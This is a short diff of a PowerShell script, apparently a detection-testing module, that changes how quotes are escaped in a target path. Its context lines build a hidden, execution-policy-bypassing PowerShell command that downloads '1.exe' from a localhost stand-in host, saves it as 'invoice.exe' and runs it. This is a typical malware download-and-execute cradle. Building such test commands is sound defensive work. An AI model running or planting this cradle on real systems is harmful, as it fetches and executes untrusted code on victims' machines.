@@ -48,9 +48,7 @@ if ($null -ne $sense) {
 $target = ($directory.TrimEnd('\') + '\invoice.exe').Replace('\', '\\')
 # The path goes into single-quoted strings: PowerShell ends one at ' and also at the typographic quotes
 # U+2018, U+2019, U+201A and U+201B, and reads any of them doubled as one literal character.
-foreach ($quote in @("'", "‘", "’", "‚", "‛")) {
-    $target = $target.Replace($quote, $quote + $quote)
-}
+$target = $target -replace "['\u2018\u2019\u201A\u201B]", '$0$0'
 $testCommand = "`$ErrorActionPreference = 'silentlycontinue';(New-Object System.Net.WebClient).DownloadFile('http://127.0.0.1/1.exe', '$target');Start-Process '$target'"
 $argumentList = "-NoExit -ExecutionPolicy Bypass -WindowStyle Hidden $testCommand"
 $module.Result.command_line = "powershell.exe $argumentList"
